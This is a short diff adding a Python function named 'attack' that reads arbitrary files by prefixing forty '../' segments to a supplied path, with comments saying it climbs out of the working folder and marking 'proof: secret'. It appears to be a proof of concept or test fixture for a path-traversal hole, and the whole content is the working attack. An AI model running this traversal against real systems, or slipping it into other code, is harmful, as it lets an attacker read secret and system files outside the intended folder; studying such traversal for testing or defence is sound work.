@@ -1,0 +1,4 @@
+# Climbs out of the working folder with "..".
+# proof: secret
+def attack(arg):
+    return open("../" * 40 + arg["public"].lstrip("/")).read()
